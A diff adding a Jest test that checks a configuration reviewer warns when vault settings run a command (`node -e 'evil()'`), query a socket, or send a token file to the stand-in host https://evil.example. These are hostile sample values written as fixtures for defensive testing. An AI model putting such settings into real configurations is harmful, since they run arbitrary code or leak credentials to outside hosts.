@@ -78,6 +78,17 @@ describe('variables that decide which code a server runs', () => {
     expect(review).not.toContain('s3cret');
   });
 
+  it('are the helper and the engine of the vault too', () => {
+    const reviewed = (keys: string) =>
+      formatReview({ ...reviewConfig(load(`${program()}\nvault: { keys: ${keys} }`)), changed: false });
+    expect(reviewed("{ command: [node, -e, 'evil()'] }")).toMatch(/It runs {2}\S*node -e 'evil\(\)' {2}for the keys/);
+    expect(reviewed('{ socket: /tmp/evil }')).toContain('It asks /tmp/evil for');
+    expect(reviewed('{ transit: { url: https://evil.example, key: k, tokenFile: /home/me/.token } }')).toContain(
+      'It sends the token in /home/me/.token to https://evil.example',
+    );
+    expect(reviewed('env')).not.toContain('vault');
+  });
+
   it('are few: a token, a locale or a proxy is none', () => {
     for (const name of ['API_KEY', 'LANG', 'HTTPS_PROXY', 'HOME', 'NODE_ENV', 'PATH_TO_DATA', 'OLD_PATH']) {
       expect(carriesCode(name), name).toBe(false);
